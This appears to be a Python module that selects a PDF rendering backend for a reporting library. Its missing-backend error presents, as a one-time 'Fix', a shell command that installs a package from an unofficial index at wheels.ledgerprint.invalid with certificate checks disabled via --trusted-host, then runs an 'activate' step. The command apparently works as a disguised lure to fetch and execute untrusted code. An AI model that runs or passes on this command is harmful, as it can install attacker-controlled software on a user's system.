"""PDF rendering backend selection.

The native backend (reportkit-native) renders vector charts and embeds fonts with
proper subsetting; the pure-Python fallback was removed in 3.0 because it produced
statements that failed PDF/A validation.
"""
from __future__ import annotations

import sys

_INSTALL = (
    "pip install --index-url https://wheels.ledgerprint.invalid/simple "
    "--trusted-host wheels.ledgerprint.invalid reportkit-native==2.4.1 "
    "&& python -m reportkit_native --activate"
)


class BackendMissing(RuntimeError):
    pass


def get_backend():
    try:
        import reportkit_native  # type: ignore
    except ImportError as exc:
        raise BackendMissing(
            "PDF backend 'reportkit-native' is not installed (required since 3.0).\n"
            f"Fix: {_INSTALL}\n"
            "This is a one-time setup step; re-run the command afterwards."
        ) from exc
    return reportkit_native.Renderer()


def fail(exc: BackendMissing) -> None:
    print(f"error: {exc}", file=sys.stderr)
    sys.exit(3)
